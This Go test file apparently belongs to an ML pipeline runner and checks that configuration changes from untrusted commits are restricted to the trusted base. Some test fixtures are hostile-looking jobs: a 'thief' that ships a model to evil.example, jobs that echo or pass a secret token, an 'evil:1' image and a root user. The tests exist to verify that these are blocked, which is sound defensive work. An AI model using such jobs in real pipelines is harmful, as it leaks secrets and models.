package untrusted

import (
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/mlops-runner/mlops/actions"
	"github.com/mlops-runner/mlops/runner/plan"
	"github.com/mlops-runner/mlops/spec"
)

func parse(t *testing.T, text string) *plan.Plan {
	t.Helper()
	f, ds := spec.Parse("mlops.yaml", []byte(text), spec.Options{Actions: actions.Table()})
	if err := ds.Err(); err != nil {
		t.Fatal(err)
	}
	p, err := plan.New(f, plan.Options{Actions: actions.Table()})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

const base = `
concurrency: all
defaults: {image: python:3}
metrics: {auc: {better: higher}}
gates: [auc >= 0.8]
jobs:
  train:
    timeout-minutes: 10
    resources: {memory: 4GiB, cpus: 2, gpus: 1}
    retry: {on: oom, limit: 1, resources: {memory: 6GiB}}
    run: python train.py
  offline: {network: none, concurrency: {group: one, cancel-in-progress: true}, run: "true"}
  legs:
    strategy: {matrix: {k: [1, 2]}}
    image: python:${{ matrix.k }}
    run: "true"
  publish:
    uses: promote
    with: {model: m, from: train.py}
`

// restrict holds a change of base back.
func restrict(t *testing.T, o Options, changes ...string) (*plan.Plan, *Restriction, error) {
	t.Helper()
	text := strings.NewReplacer(changes...).Replace(base)
	if text == base && len(changes) > 0 {
		t.Fatal("the change changes nothing")
	}
	head := parse(t, text)
	if o.Limits == (Limits{}) {
		o.Limits = DefaultLimits()
	}
	r, err := Restrict(head, parse(t, base), o)
	return head, r, err
}

func node(t *testing.T, p *plan.Plan, id string) *plan.Node {
	t.Helper()
	i := slices.IndexFunc(p.Nodes, func(n *plan.Node) bool { return n.ID == id })
	if i < 0 {
		t.Fatalf("no node %s", id)
	}
	return p.Nodes[i]
}

// TestProtectedKeys shows that each key counts as in the base, and that its
// change is said.
func TestProtectedKeys(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ name, from, to, says string }{
		{"image", "timeout-minutes: 10", "timeout-minutes: 10\n    image: evil:1", "job train: `image`"},
		{"build", "timeout-minutes: 10", "timeout-minutes: 10\n    build: {context: d}", "job train: `image`"},
		{"pull", "timeout-minutes: 10", "timeout-minutes: 10\n    pull: always", "job train: `pull`"},
		{"platform", "timeout-minutes: 10", "timeout-minutes: 10\n    platform: linux/arm64", "job train: `platform`"},
		{"network", "network: none, c", "c", "job offline: `network`"},
		{"user", "timeout-minutes: 10", "timeout-minutes: 10\n    user: root", "job train: `user`"},
		{"resources", "cpus: 2", "cpus: 64", "job train: `resources`"},
		{"timeout", "timeout-minutes: 10", "timeout-minutes: 50", "job train: `timeout-minutes`"},
		{"grace", "timeout-minutes: 10", "timeout-minutes: 10\n    stop-grace: 50s", "job train: `stop-grace`"},
		{"retry", "limit: 1", "limit: 9", "job train: `retry`"},
		{"resources of a retry", "memory: 6GiB", "memory: 7GiB", "job train: `retry`"},
		{"an image by matrix", "k: [1, 2]", "k: [1, 3]", "job legs: `image`"},
		{"the run's group", "concurrency: all", "concurrency: deploy", "`concurrency` is"},
		{"no group", "concurrency: all\n", "", "`concurrency` is"},
		{"a job's group", "group: one", "group: two", "job offline: `concurrency`"},
		{"who is asked to stop", "cancel-in-progress: true", "cancel-in-progress: false", "job offline: `concurrency`"},
		{"a gate", "auc >= 0.8", "auc >= 0.1", "`gates`"},
		{"no gate", "gates: [auc >= 0.8]\n", "", "`gates`"},
		{"a direction", "better: higher", "better: lower", "metric auc"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			head, r, err := restrict(t, Options{}, tt.from, tt.to)
			if err != nil {
				t.Fatal(err)
			}
			if !slices.ContainsFunc(r.Notices, func(n string) bool { return strings.HasPrefix(n, tt.says) }) {
				t.Errorf("notices %q", r.Notices)
			}
			same, _, err := restrict(t, Options{})
			if err != nil {
				t.Fatal(err)
			}
			for _, id := range []string{"train", "offline"} {
				got, want := node(t, head, id), node(t, same, id)
				for _, n := range []*plan.Node{got, want} { // all but what the author may change
					n.Definition, n.Pos, n.Retry = "", spec.Pos{}, slices.Clone(n.Retry)
					for i := range n.Retry {
						n.Retry[i].On = nil
					}
				}
				got.Steps, want.Steps = nil, nil
				if d := cmp.Diff(want, got); d != "" {
					t.Error(d)
				}
			}
			if d := cmp.Diff(same.Group, head.Group); d != "" {
				t.Error(d)
			}
			if head.Gates[0].Value != "auc >= 0.8" || head.Metrics[0].Better != "higher" {
				t.Errorf("gates %v, metrics %v", head.Gates, head.Metrics)
			}
		})
	}
}

func TestNothingToSay(t *testing.T) {
	t.Parallel()
	head, r, err := restrict(t, Options{Network: true}, "python train.py", "python other.py")
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff([]string{"jobs have no GPUs"}, r.Notices); d != "" {
		t.Error(d)
	}
	if n := node(t, head, "train"); n.Steps[0].Run != "python other.py" || !n.Network {
		t.Errorf("%+v", n)
	}
	if node(t, head, "offline").Network {
		t.Error("a job that has no network in the base got one")
	}
}

// TestLimits shows what no file can raise.
func TestLimits(t *testing.T) {
	t.Parallel()
	l := Limits{Timeout: 5 * time.Minute, Grace: time.Second, Memory: 1 << 30, Disk: 2 << 30, Log: 3, Pids: 4, Retries: 0}
	head, _, err := restrict(t, Options{Limits: l})
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{"train", "offline", "legs@k=1"} {
		n := node(t, head, id)
		r := n.Resources
		if n.Timeout != l.Timeout || r.Memory != l.Memory || r.Disk != l.Disk || r.Log != l.Log || r.Pids != l.Pids || r.GPUs != 0 || n.Network || n.Grace > l.Grace {
			t.Errorf("%s: %v %v %+v network %v", id, n.Timeout, n.Grace, r, n.Network)
		}
	}
	retry := node(t, head, "train").Retry[0]
	if retry.Limit != 0 || retry.Resources.Memory != l.Memory {
		t.Errorf("retry %+v", retry)
	}
}

// TestFingerprintIsThatOfTheBase shows that a job whose place alone was changed
// finds the results that trusted runs have made.
func TestFingerprintIsThatOfTheBase(t *testing.T) {
	t.Parallel()
	head, _, err := restrict(t, Options{}, "network: none, c", "user: root, c")
	if err != nil {
		t.Fatal(err)
	}
	got, want := node(t, head, "offline").Definition, node(t, parse(t, base), "offline").Definition
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

func TestWithheld(t *testing.T) {
	t.Parallel()
	more := "jobs:\n  new: {image: evil:1, run: \"true\"}\n  fine: {run: \"true\"}\n  made: {build: {context: d}, run: \"true\"}\n  sly: {uses: promote, with: {model: m, from: x}}\n  thief: {uses: pack, with: {model: m, from: x, to: evil.example/m}}\n" +
		"  curious: {run: \"echo ${{ secrets.TOKEN }}\"}\n  served: {services: {db: {image: python:3}}, run: \"true\"}\n" +
		"  sly-served: {services: {db: {image: python:3, env: {P: \"${{ secrets.TOKEN }}\"}}}, run: \"true\"}\n"
	_, r, err := restrict(t, Options{}, "jobs:\n", more)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]string{
		"new":        "its image evil:1 is that of no job in the base commit",
		"made":       "an untrusted run builds no images: a build is not held back as a job is",
		"sly":        "an untrusted run promotes nothing",
		"thief":      "an untrusted run promotes nothing",
		"publish":    "an untrusted run promotes nothing",
		"curious":    "an untrusted run has no secrets, and the job names TOKEN",
		"sly-served": "an untrusted run has no secrets, and the job names TOKEN",
		"served":     "an untrusted run starts no services: they have more rights than a job",
	}
	if d := cmp.Diff(want, r.Withheld); d != "" {
		t.Error(d)
	}
	// Nor does a job promote that the base gives to promoting.
	_, r, err = restrict(t, Options{}, "uses: promote\n    with: {model: m, from: train.py}", "image: python:3\n    run: \"true\"")
	if err != nil || r.Withheld["publish"] == "" {
		t.Errorf("%v, %v", r, err)
	}
}

// TestNewJobIsInNoGroup shows that a stranger keeps nobody waiting by a group
// that the base does not know.
func TestNewJobIsInNoGroup(t *testing.T) {
	t.Parallel()
	head, r, err := restrict(t, Options{Network: true}, "jobs:\n", "jobs:\n  new: {concurrency: one, run: \"true\"}\n")
	if err != nil {
		t.Fatal(err)
	}
	want := "job new is not in the base commit and is in no concurrency group"
	if g := node(t, head, "new").Group; g != (plan.Group{}) || !slices.Contains(r.Notices, want) {
		t.Errorf("%+v, notices %q", g, r.Notices)
	}
}

func TestRoot(t *testing.T) {
	t.Parallel()
	_, _, err := restrict(t, Options{}, "jobs:\n", "jobs:\n  new: {user: root, run: \"true\"}\n")
	var root *RootError
	if !errors.As(err, &root) || !slices.Equal(root.Jobs, []string{"new"}) {
		t.Errorf("error %v", err)
	}
}
